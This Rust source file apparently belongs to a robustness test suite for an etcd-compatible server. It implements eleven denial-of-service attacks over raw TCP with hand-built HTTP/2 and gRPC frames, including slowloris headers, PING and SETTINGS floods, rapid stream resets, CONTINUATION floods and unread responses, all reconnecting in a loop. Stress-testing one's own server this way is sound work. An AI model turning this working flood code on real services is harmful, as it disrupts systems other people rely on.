//! Clients that mean harm, over TCP: frames written by hand, so that no library is kind for them.
//!
//! Each attack is a future that goes on until it is dropped. A connection that the server closes is opened again.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use bytes::{BufMut, Bytes, BytesMut};
use prost::Message;
use quorate::proto::etcdserverpb as pb;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// Whom it is against, and how hard.
#[derive(Clone, Debug)]
pub(crate) struct Target {
    /// Of HTTP in clear.
    pub address: SocketAddr,
    /// Where the attackers are; loopback has many addresses.
    pub from: SocketAddr,
    pub connections: usize,
    /// Calls, streams or watchers on each.
    pub each: usize,
    /// Begins with the keys that the honest client writes.
    pub prefix: String,
    /// A key whose value is long.
    pub long: String,
    /// Connections, or more, that were made so far.
    pub made: Arc<AtomicUsize>,
}

#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Attack {
    /// Connections that say nothing.
    Silence,
    /// Heads of HTTP/1.1 that come a byte at a time.
    SlowHeads,
    /// Bytes that are no protocol's, before and behind HTTP/2's preface.
    Garbage,
    /// Pings and settings, as many as go.
    Pings,
    /// Calls that are given up at once.
    Resets,
    /// A head that never ends.
    Continuations,
    /// Calls of which only the head comes.
    SilentCalls,
    /// Long messages of which half comes.
    HalfMessages,
    /// Long answers that nobody reads.
    UnreadAnswers,
    /// Watchers of what the honest client writes, which read nothing.
    DeafWatches,
    /// The same by JSON over HTTP/1.1: long answers that nobody reads.
    UnreadPages,
}

impl Attack {
    pub(crate) const ALL: [Self; 11] = [
        Self::Silence,
        Self::SlowHeads,
        Self::Garbage,
        Self::Pings,
        Self::Resets,
        Self::Continuations,
        Self::SilentCalls,
        Self::HalfMessages,
        Self::UnreadAnswers,
        Self::DeafWatches,
        Self::UnreadPages,
    ];

    /// Goes on until it is dropped.
    pub(crate) async fn run(self, target: Target) {
        let mut all = JoinSet::new();
        for number in 0..target.connections {
            all.spawn(again(self, target.clone(), number));
        }
        while all.join_next().await.is_some() {}
    }
}

/// A pause before a connection that was closed is opened again: an attacker has no more time than others.
const AGAIN: Duration = Duration::from_millis(2);

async fn again(attack: Attack, target: Target, number: usize) {
    loop {
        // The server may have cut it, or have no room: that is what it is for.
        let _refused = once(attack, &target, number).await;
        tokio::time::sleep(AGAIN).await;
    }
}

async fn once(attack: Attack, target: &Target, number: usize) -> std::io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(target.from)?;
    let mut stream = socket.connect(target.address).await?;
    target.made.fetch_add(1, Ordering::Relaxed);
    match attack {
        Attack::Silence => until_closed(&mut stream).await,
        Attack::SlowHeads => slow_head(&mut stream).await,
        Attack::Garbage => garbage(&mut stream, number).await,
        Attack::Pings => pings(stream).await,
        Attack::Resets => resets(stream).await,
        Attack::Continuations => continuations(stream).await,
        Attack::SilentCalls => silent_calls(&mut stream, target.each).await,
        Attack::HalfMessages => half_messages(&mut stream, target.each).await,
        Attack::UnreadAnswers => unread_answers(&mut stream, target).await,
        Attack::DeafWatches => deaf_watches(&mut stream, target).await,
        Attack::UnreadPages => unread_pages(&mut stream, target).await,
    }
}

/// Reads what comes, until nothing does.
async fn until_closed(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut sink = vec![0; 16 * 1024];
    while stream.read(&mut sink).await? > 0 {}
    Ok(())
}

/// Reads nothing, and notices all the same when the server cuts it.
async fn deaf(stream: &mut TcpStream) -> std::io::Result<()> {
    use tokio::io::Interest;
    loop {
        let ready = stream.ready(Interest::READABLE | Interest::ERROR).await?;
        if ready.is_error() || ready.is_read_closed() {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn slow_head(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(b"POST /v3/kv/range HTTP/1.1\r\nhost: h\r\nx: ").await?;
    loop {
        stream.write_all(b"x").await?;
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

async fn garbage(stream: &mut TcpStream, number: usize) -> std::io::Result<()> {
    let mut bytes = match number % 3 {
        0 => Vec::new(),
        1 => PREFACE.to_vec(),
        _ => b"\x16\x03\x01\x02\x00\x01\x00".to_vec(),
    };
    let mut state = (number as u32).wrapping_mul(2_654_435_761) | 1;
    bytes.extend((0..4_096).map(|_| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 24) as u8
    }));
    stream.write_all(&bytes).await?;
    until_closed(stream).await
}

async fn pings(stream: TcpStream) -> std::io::Result<()> {
    let mut burst = BytesMut::new();
    for _ in 0..256 {
        burst.extend_from_slice(&frame(PING, 0, 0, &[0; 8]));
        burst.extend_from_slice(&frame(SETTINGS, 0, 0, &[]));
    }
    answers_thrown_away(stream, || burst.clone()).await
}

async fn resets(stream: TcpStream) -> std::io::Result<()> {
    let mut call = 1;
    let burst = || {
        let mut burst = BytesMut::new();
        for _ in 0..128 {
            burst.extend_from_slice(&head(call, PUT));
            burst.extend_from_slice(&frame(RESET, 0, call, &8_u32.to_be_bytes()));
            call += 2;
        }
        burst
    };
    answers_thrown_away(stream, burst).await
}

/// One burst after the other, until the connection ends.
async fn answers_thrown_away(
    stream: TcpStream,
    mut burst: impl FnMut() -> BytesMut,
) -> std::io::Result<()> {
    let (mut read, mut write) = stream.into_split();
    let writing = async {
        write.write_all(&opened(u32::MAX >> 1)).await?;
        loop {
            write.write_all(&burst()).await?;
        }
    };
    let mut sink = vec![0; 64 * 1024];
    let reading = async {
        while read.read(&mut sink).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}

async fn continuations(stream: TcpStream) -> std::io::Result<()> {
    let (mut read, mut write) = stream.into_split();
    let writing = async {
        write.write_all(&opened(u32::MAX >> 1)).await?;
        write.write_all(&frame(HEADERS, 0, 1, &[0x83, 0x86])).await?;
        let more = frame(CONTINUATION, 0, 1, &literal(b"x-more", &[b'x'; 1_000]));
        loop {
            write.write_all(&more).await?;
        }
    };
    let mut sink = vec![0; 16 * 1024];
    let reading = async {
        while read.read(&mut sink).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}

async fn silent_calls(stream: &mut TcpStream, calls: usize) -> std::io::Result<()> {
    let mut bytes = BytesMut::from(&opened(u32::MAX >> 1)[..]);
    for call in 0..calls as u32 {
        let path = if call % 2 == 0 { PUT } else { WATCH };
        bytes.extend_from_slice(&head(2 * call + 1, path));
    }
    stream.write_all(&bytes).await?;
    until_closed(stream).await
}

async fn half_messages(stream: &mut TcpStream, calls: usize) -> std::io::Result<()> {
    stream.write_all(&opened(u32::MAX >> 1)).await?;
    let mut begun = BytesMut::from(&[0][..]);
    begun.put_u32(1_500_000);
    begun.resize(16_000, 7);
    let mut room = WINDOW_AT_FIRST;
    for call in 0..calls as u32 {
        // Whoever sends more than there is room for is cut off, and holds nothing.
        while room < begun.len() {
            room += more_room(stream).await?;
        }
        room -= begun.len();
        let call = 2 * call + 1;
        stream.write_all(&[head(call, PUT), frame(DATA, 0, call, &begun)].concat()).await?;
    }
    until_closed(stream).await
}

/// Of a connection, by HTTP/2's standard.
const WINDOW_AT_FIRST: usize = 65_535;

/// By how much the next frame widens the connection's window.
async fn more_room(stream: &mut TcpStream) -> std::io::Result<usize> {
    let [a, b, c, kind] = stream.read_u32().await?.to_be_bytes();
    let (_flags, of) = (stream.read_u8().await?, stream.read_u32().await?);
    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
    stream.read_exact(&mut payload).await?;
    match (kind, of, <[u8; 4]>::try_from(payload)) {
        (WINDOW, 0, Ok(more)) => Ok(u32::from_be_bytes(more) as usize),
        _ => Ok(0),
    }
}

async fn unread_answers(stream: &mut TcpStream, target: &Target) -> std::io::Result<()> {
    let mut bytes = BytesMut::from(&opened(u32::MAX >> 1)[..]);
    let range = pb::RangeRequest {
        key: target.long.clone().into(),
        range_end: format!("{}\u{7f}", target.long).into(),
        serializable: true,
        ..Default::default()
    };
    for call in 0..target.each as u32 {
        bytes.extend_from_slice(&call_of(2 * call + 1, RANGE, &range, true));
    }
    stream.write_all(&bytes).await?;
    deaf(stream).await
}

async fn deaf_watches(stream: &mut TcpStream, target: &Target) -> std::io::Result<()> {
    let mut bytes = BytesMut::from(&opened(u32::MAX >> 1)[..]);
    for call in 0..target.each as u32 {
        let create = pb::WatchCreateRequest {
            key: target.prefix.clone().into(),
            range_end: format!("{}\u{7f}", target.prefix).into(),
            ..Default::default()
        };
        let request = pb::WatchRequest {
            request_union: Some(pb::watch_request::RequestUnion::CreateRequest(create)),
        };
        bytes.extend_from_slice(&call_of(2 * call + 1, WATCH, &request, false));
    }
    stream.write_all(&bytes).await?;
    deaf(stream).await
}

async fn unread_pages(stream: &mut TcpStream, target: &Target) -> std::io::Result<()> {
    // Base64 of JSON's bytes.
    use base64::prelude::{BASE64_STANDARD, Engine};
    let (key, end) = (&target.long, format!("{}\u{7f}", target.long));
    let (key, end) = (BASE64_STANDARD.encode(key), BASE64_STANDARD.encode(end));
    let body = format!(r#"{{"key":"{key}","range_end":"{end}","serializable":true}}"#);
    let request = format!(
        "POST /v3/kv/range HTTP/1.1\r\nhost: h\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(request.repeat(target.each).as_bytes()).await?;
    deaf(stream).await
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW: u8 = 8;
const CONTINUATION: u8 = 9;

const PUT: &str = "/etcdserverpb.KV/Put";
const RANGE: &str = "/etcdserverpb.KV/Range";
const WATCH: &str = "/etcdserverpb.Watch/Watch";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Bytes {
    let mut frame = BytesMut::with_capacity(9 + payload.len());
    frame.put_uint(payload.len() as u64, 3);
    frame.put_u8(kind);
    frame.put_u8(flags);
    frame.put_u32(stream);
    frame.extend_from_slice(payload);
    frame.freeze()
}

/// The preface, and windows of so many bytes.
fn opened(window: u32) -> Bytes {
    let mut settings = BytesMut::new();
    settings.put_u16(4);
    settings.put_u32(window);
    let more = window.saturating_sub(65_535).to_be_bytes();
    [PREFACE, &frame(SETTINGS, 0, 0, &settings), &frame(WINDOW, 0, 0, &more)].concat().into()
}

/// A field that is not to be remembered, its strings as they are.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut field = vec![0];
    for string in [name, value] {
        // Integers of HPACK with a prefix of seven bits.
        let length = string.len();
        if length < 127 {
            field.push(length as u8);
        } else {
            let rest = length - 127;
            field.extend([127, (rest % 128) as u8 | 0x80, (rest / 128) as u8]);
        }
        field.extend_from_slice(string);
    }
    field
}

/// The head of a call of gRPC.
fn head(stream: u32, path: &str) -> Bytes {
    let mut block = vec![0x83, 0x86];
    block.extend(literal(b":path", path.as_bytes()));
    block.extend(literal(b":authority", b"localhost"));
    block.extend(literal(b"content-type", b"application/grpc"));
    block.extend(literal(b"te", b"trailers"));
    frame(HEADERS, 4, stream, &block)
}

fn call_of(stream: u32, path: &str, message: &impl Message, is_last: bool) -> Vec<u8> {
    let message = message.encode_to_vec();
    let mut body = BytesMut::from(&[0][..]);
    body.put_u32(message.len() as u32);
    body.extend_from_slice(&message);
    [head(stream, path), frame(DATA, u8::from(is_last), stream, &body)].concat()
}
